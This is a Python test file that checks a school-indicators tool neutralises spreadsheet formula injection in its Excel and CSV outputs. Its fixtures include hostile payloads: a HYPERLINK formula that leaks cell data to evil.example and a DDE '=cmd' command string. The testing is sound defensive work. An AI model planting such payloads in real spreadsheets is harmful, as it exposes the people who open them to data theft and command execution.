"""Issue 17, point 4: no text cell of an output is a live spreadsheet formula — the workbook
(`indicators.xlsx`) and the CSV of `shnor indicators` prefix such text with `'` (OWASP CSV injection)."""
from __future__ import annotations

import csv

import pandas as pd
import pytest
from openpyxl import load_workbook

from shnor_utils.batch.excel import write_workbook
from shnor_utils.indicators import COLUMNS, write_indicators
from shnor_utils.safeio import neutral

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&B2,"СОШ № 1")', "\t=1+1", " =SUM(1)", "+7(900)", "-2+3",
                 "@SUM(A1)", "\r=1", "\n=1"]
HOSTILE_IDS = ["=1+1", "+1", "-1", "@x"]


def indicators(ids) -> pd.DataFrame:
    rows = [{"level": "school", "entity_id": i, "year": 2026, "indicator_id": "vpr_share_2", "subject": "Математика",
             "grade": 4, "exam": None, "value": -1.5, "numerator": 1, "denominator": 10, "ci_low": None,
             "ci_high": None, "flag": None} for i in ids]
    frame = pd.DataFrame(rows, columns=COLUMNS)
    frame["level"] = frame["level"].astype("string")
    frame["entity_id"] = frame["entity_id"].astype("string")
    return frame


def test_neutral_prefixes_what_a_spreadsheet_would_evaluate():
    for text in HOSTILE_NAMES + HOSTILE_IDS:
        assert neutral(text) == "'" + text, text
    for text in ["СОШ № 1", "a=b", "1-2", "school@x", "", "'=already"]:
        assert neutral(text) == text
    assert neutral(-1) == -1 and neutral(None) is None and neutral(2.5) == 2.5


def test_workbook_has_no_formula_cell_from_a_name_or_id(tmp_path):
    ids = [f"s{i}" for i in range(len(HOSTILE_NAMES))] + HOSTILE_IDS
    names = HOSTILE_NAMES + [f"Школа {i}" for i in range(len(HOSTILE_IDS))]
    schools = pd.DataFrame({"school_id": ids, "school_name": names, "municipality_id": "m1",
                            "municipality_name": "=cmd|' /C calc'!A0"})
    table = pd.concat([indicators(ids), indicators(["m1"]).assign(level="municipality")], ignore_index=True)
    path = write_workbook(table, schools, tmp_path / "indicators.xlsx", region_name="@Область",
                          year=2026, analyses=())
    wb = load_workbook(path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    for text in HOSTILE_NAMES + HOSTILE_IDS:
        assert "'" + text in seen, text
    assert "'=cmd|' /C calc'!A0" in seen
    ws = wb["Прочие"]
    col = [c.value for c in ws[1]].index("Значение") + 1
    values = [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]   # numbers stay numbers
    assert values == [-1.5] * (len(ids) + 1)


def test_indicators_csv_neutralises_text_only(tmp_path):
    frame = indicators(HOSTILE_IDS + ["s1"])
    out = write_indicators(frame, tmp_path / "ind.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["entity_id"] for r in rows] == ["'=1+1", "'+1", "'-1", "'@x", "s1"]
    assert {r["value"] for r in rows} == {"-1.5"}          # numbers are not text: written as they are
    assert frame["entity_id"].tolist()[0] == "=1+1"          # the caller's frame is not changed


def test_parquet_keeps_the_values(tmp_path):
    out = write_indicators(indicators(HOSTILE_IDS), tmp_path / "ind.parquet")
    assert pd.read_parquet(out)["entity_id"].tolist() == HOSTILE_IDS


@pytest.mark.parametrize("text", HOSTILE_IDS)
def test_cli_indicators_csv(tmp_path, demo_small, text, monkeypatch):
    """`shnor indicators` on a dataset whose school id is hostile: the CSV holds the inert text."""
    from shnor_utils import cli

    monkeypatch.setattr(cli, "compute_all", lambda ds, meth: indicators([text]))
    monkeypatch.setattr(cli, "suppress", lambda frame, meth: frame)
    assert cli.main(["indicators", str(demo_small), "--out", str(tmp_path / "x.csv")]) == 0
    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["entity_id"] == "'" + text
